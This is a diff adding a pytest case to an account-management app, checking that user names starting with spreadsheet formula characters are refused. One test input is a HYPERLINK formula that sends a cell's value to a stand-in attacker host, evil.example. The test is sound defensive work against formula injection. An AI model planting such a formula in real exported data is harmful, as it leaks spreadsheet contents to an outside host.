@@ -1,5 +1,6 @@
 """Admins create, edit, disable and re-enable accounts; every change is in the audit log."""
 
+import pytest
 import sqlalchemy as sa
 
 from app.accounts.models import BranchPosition, MemberCategory, Role, User
@@ -164,3 +165,14 @@ def test_audit_log_lists_changes_for_admins(client, login_as, create_user, org_t
     client.post("/users/new", data=user_form(org_tree["a1"]))
     page = client.get("/admin/audit?action=user.create").get_data(as_text=True)
     assert "创建账户 新成员(N20001)" in page
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?x="&A3,"点击")', "+1+1", "-2+3", "@SUM(A1)"]
+)
+def test_finding4_the_user_form_refuses_names_a_spreadsheet_would_run(name):
+    from app.accounts import services as account_services
+
+    data = account_services.UserData(employee_no="F4001", name=name, mobile="13900004001")
+    with pytest.raises(account_services.AccountError, match="姓名不能以"):
+        account_services.create_user(data, ["member"], actor=None, password="Zq8!vLw3-hk")
